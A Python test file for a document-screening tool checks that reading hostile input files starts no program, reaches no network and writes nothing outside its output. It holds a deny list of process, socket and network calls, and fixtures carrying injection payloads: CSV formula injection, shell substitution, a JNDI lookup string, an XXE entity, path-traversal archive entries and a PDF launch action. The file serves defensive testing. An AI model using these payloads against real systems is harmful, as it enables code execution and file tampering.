"""No input starts a program, reaches the network, unpickles, or writes anywhere but to the output: every such call is watched."""

import io
import json
import os
import sys
import tempfile
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from predominance import screener as engine
from predominance.cli import run
from predominance.extract.extractor import Extractor
from predominance.readers import read
from predominance.types import Case
from tests.cli.standin import StandIn
from tests.readers.files import FACTS, mail, packed, pdf, word, xlsx

FORBIDDEN = (
    "subprocess.", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "os.startfile",
    "socket.connect", "socket.bind", "socket.getaddrinfo", "socket.gethostby", "socket.sendto", "urllib.", "http.",
    "ftplib.", "smtplib.", "webbrowser.", "pickle.find_class", "ctypes.dlopen",
)  # fmt: skip
CHANGING = (
    "os.remove",
    "os.rename",
    "os.mkdir",
    "os.rmdir",
    "os.symlink",
    "os.link",
    "os.truncate",
    "shutil.",
    "sqlite3.connect",
)
_seen: list[tuple[str, str]] | None = None


def _watch(event: str, arguments: tuple[object, ...]) -> None:
    if _seen is None:
        return
    if event.startswith(FORBIDDEN):
        _seen.append((event, ""))
    elif event.startswith(CHANGING):
        _seen.extend((event, os.fsdecode(one)) for one in arguments[:2] if isinstance(one, str | bytes | os.PathLike))
    elif event == "open" and isinstance(arguments[0], str | bytes | os.PathLike):
        mode, flags = arguments[1], arguments[2]
        writes = bool(set(mode) & set("wax+")) if isinstance(mode, str) else False
        if writes or (isinstance(flags, int) and flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT)):
            _seen.append((event, os.fsdecode(arguments[0])))


sys.addaudithook(_watch)  # a hook stays as long as the process; it looks away while nobody watches


@contextmanager
def watched() -> Iterator[list[tuple[str, str]]]:
    global _seen
    _seen = found = []
    try:
        yield found
    finally:
        _seen = None


def with_parts(path: Path, parts: dict[str, str]) -> None:
    with zipfile.ZipFile(io.BytesIO(path.read_bytes())) as held:
        kept = {name: held.read(name) for name in held.namelist()}
    path.write_bytes(packed({**kept, **parts}))


@pytest.fixture
def inbox(tmp_path: Path) -> Path:
    """Files that ask for what no reader may give them."""
    folder = tmp_path / "inbox"
    folder.mkdir()
    seen_by_nobody = (
        "<base href='http://example.org/'><link rel=stylesheet href=x.css><meta http-equiv=refresh content='0;url=//a'></head>"
        "<body onload=alert(1)><script src='http://example.org/x.js'>import('os')</script><img src='file:///etc/hostname'>"
        "<iframe src='http://example.org'></iframe><object data='x'></object>"
    )
    (folder / "page.html").write_text(f"<html><head>{seen_by_nobody}<p>{FACTS}</p></body></html>", encoding="utf-8")
    (folder / "entity.html").write_text(
        f"<?xml version='1.0'?><!DOCTYPE html [<!ENTITY x SYSTEM 'http://example.org/x'>]><html><p>&x; {FACTS}</p></html>"
    )
    (folder / "table.csv").write_text(f"text;note\n{FACTS};=cmd|'/C calc'!A0\n{FACTS} $(touch evil);`touch evil`\n")
    record = {"text": FACTS, "__reduce__": "os.system", "$ref": "http://example.org", "case_id": "../../evil", "x": "{{7*7}}"}
    (folder / "records.jsonl").write_text(json.dumps(record) + "\n" + json.dumps({"text": "${jndi:ldap://example.org/a}"}))
    document = word(folder / "letter.docx", [FACTS])
    target = 'Type="x" Target="http://example.org/evil.dotm" TargetMode="External"'
    relations = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    with_parts(document, {"word/_rels/settings.xml.rels": f'{relations}<Relationship Id="r1" {target}/></Relationships>'})
    with_parts(document, {"../../evil.xml": "x", "/tmp/evil.xml": "x"})
    book = xlsx(folder / "book.xlsx", {"S": [["text", "f"], [FACTS, '=WEBSERVICE("http://example.org")']]})
    with_parts(book, {"../../evil.xml": "x", "xl/externalLinks/externalLink1.xml": "<externalLink/>", "xl/vbaProject.bin": "x"})
    content = pdf(folder / "scan.pdf", [FACTS]).read_bytes()
    action = b"/Type /Catalog /OpenAction << /S /Launch /F (evil) >> /AA << /O << /S /URI /URI (http://example.org) >> >>"
    (folder / "scan.pdf").write_bytes(content.replace(b"/Type /Catalog", action))
    names = ["../../../evil.txt", "/tmp/evil.txt", "C:\\evil.txt", "a\x00b.txt", "con.txt"]
    mail(folder / "mail.eml", FACTS, attachments=[(name, b"He fled.") for name in names])
    (folder / "remote.eml").write_bytes(
        b"Received: x\r\nFrom: a@example.org\r\nMIME-Version: 1.0\r\nContent-Type: message/external-body; access-type=URL;"
        b' URL="http://example.org/x"\r\n\r\n' + FACTS.encode()
    )
    return folder


def test_a_run_over_hostile_files_starts_nothing_and_writes_only_its_output(
    inbox: Path, tmp_path: Path, own_cache: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "temporary").mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "temporary"))
    monkeypatch.setattr(engine.Screener, "load", lambda *_, **__: StandIn(0, str(tmp_path / "count")))
    before = {path: path.read_bytes() for path in inbox.rglob("*")}
    assert list(read([inbox]))  # loads what is loaded at first need, which is not what is watched
    run(["score", str(inbox), "-o", str(tmp_path / "first.xlsx"), "-q"])
    own = [str(tmp_path / "out"), str(tmp_path / "temporary"), str(own_cache), str(tmp_path / "count")]
    (tmp_path / "out").mkdir()
    with watched() as seen:
        assert run(["score", str(inbox), "-o", str(tmp_path / "out" / "ranked.xlsx"), "-q"]) in (0, 3)
        for case in read([inbox]):
            if isinstance(case, Case):
                list(Extractor.rules_only().read([case]))
    assert any(path.startswith(str(tmp_path / "out")) for _, path in seen)  # the watch is awake
    outside = [(event, path) for event, path in seen if not path.startswith(tuple(own)) and "__pycache__" not in path]
    assert outside == []
    assert {path: path.read_bytes() for path in inbox.rglob("*")} == before
    assert [path.name for path in (tmp_path / "out").iterdir()] == ["ranked.xlsx"]
    assert not list(tmp_path.rglob("*evil*"))


def test_what_nobody_sees_of_a_page_and_what_a_link_names_is_in_no_case(inbox: Path) -> None:
    texts = "\n".join(one.text for one in read([inbox]) if isinstance(one, Case))
    assert texts.count(FACTS) >= 7
    assert "alert" not in texts and "import" not in texts and "example.org" not in texts.replace("ldap://example.org", "")


def test_the_watch_sees_what_it_is_there_for(tmp_path: Path) -> None:
    with watched() as seen:
        (tmp_path / "x").write_text("x")
        (tmp_path / "x").unlink()
    assert [event for event, _ in seen] == ["open", "os.remove"]
